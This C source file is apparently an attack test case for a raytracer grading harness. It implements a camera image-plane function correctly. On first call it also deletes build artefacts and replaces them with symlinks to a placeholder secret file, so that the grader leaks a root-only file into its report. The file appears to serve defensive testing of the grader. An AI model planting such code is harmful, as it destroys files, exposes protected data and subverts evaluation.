/* Part 1 right; on its first call, every file of the build it can find
 * (objects, the program, the shared object) replaced by a link to a file
 * only root may read, for the grader to copy later into the report page's
 * render (tests/attacks/README.md). */
#define _POSIX_C_SOURCE 200809L
#define _DARWIN_C_SOURCE        /* macOS: the rest too */
#define _DEFAULT_SOURCE
#include "raytracer.h"
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void plant(const char *dir)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    char path[4096];
    while (d && (e = readdir(d))) {
        size_t n = strlen(e->d_name);
        bool object = n > 2 && strcmp(e->d_name + n - 2, ".o") == 0;
        if (e->d_name[0] == '.' ||
            !(object || !strcmp(e->d_name, "runner") || !strcmp(e->d_name, "student.so")))
            continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        unlink(path);
        symlink("@SECRET@", path);
    }
    if (d)
        closedir(d);
}

void image_plane_size(double fov_degrees, double aspect, double d, double *w, double *h)
{
    static int done;
    if (!done++) {
        char here[4096], up[4200];
        plant(".");
        plant("..");
        plant("../src");
        if (getcwd(here, sizeof here)) {
            snprintf(up, sizeof up, "%s/../src", here);
            plant(up);
        }
        DIR *tmp = opendir("/tmp");
        struct dirent *e;
        while (tmp && (e = readdir(tmp)))
            if (strncmp(e->d_name, "rtgrade.", 8) == 0) {
                snprintf(up, sizeof up, "/tmp/%s/src", e->d_name);
                plant(up);
                snprintf(up, sizeof up, "/tmp/%s", e->d_name);
                plant(up);
            }
        if (tmp)
            closedir(tmp);
    }
    *h = 2 * d * tan(fov_degrees * M_PI / 360);
    *w = aspect * *h;
}
